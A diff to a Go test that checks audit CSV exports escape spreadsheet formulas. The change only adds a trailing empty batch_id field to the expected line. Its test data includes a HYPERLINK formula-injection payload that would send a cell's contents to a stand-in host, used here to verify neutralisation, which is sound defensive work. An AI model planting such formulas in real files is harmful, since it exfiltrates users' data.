@@ -96,7 +96,8 @@ func TestAuditExportsNeutraliseFormulas(t *testing.T) {
 		return out
 	}
 	wantCells := []string{`'=HYPERLINK("http://x/?"&A1,"ok")`, `'-`}
-	// As written to the file: the quotes doubled inside a quoted cell.
+	// As written to the file: the quotes doubled inside a quoted cell, then
+	// the empty batch_id.
 	const wantCSV = `"'=HYPERLINK(""http://x/?""&A1,""ok"")"`
 
 	t.Run("SlackFile", func(t *testing.T) {
@@ -109,7 +110,7 @@ func TestAuditExportsNeutraliseFormulas(t *testing.T) {
 		if got := rejections(t, "the Slack file", files[0].Content); !cmp.Equal(got, wantCells) {
 			t.Errorf("the reasons' cells are %q, want %q", got, wantCells)
 		}
-		if !strings.Contains(string(files[0].Content), ","+wantCSV+"\n") {
+		if !strings.Contains(string(files[0].Content), ","+wantCSV+",\n") {
 			t.Errorf("the file does not hold %s:\n%s", wantCSV, files[0].Content)
 		}
 	})
@@ -124,7 +125,7 @@ func TestAuditExportsNeutraliseFormulas(t *testing.T) {
 		if got := rejections(t, "contactbot audit", out.Bytes()); !cmp.Equal(got, wantCells) {
 			t.Errorf("the reasons' cells are %q, want %q", got, wantCells)
 		}
-		if !strings.Contains(out.String(), ","+wantCSV+"\n") {
+		if !strings.Contains(out.String(), ","+wantCSV+",\n") {
 			t.Errorf("the export does not hold %s:\n%s", wantCSV, out.String())
 		}
 		out.Reset()
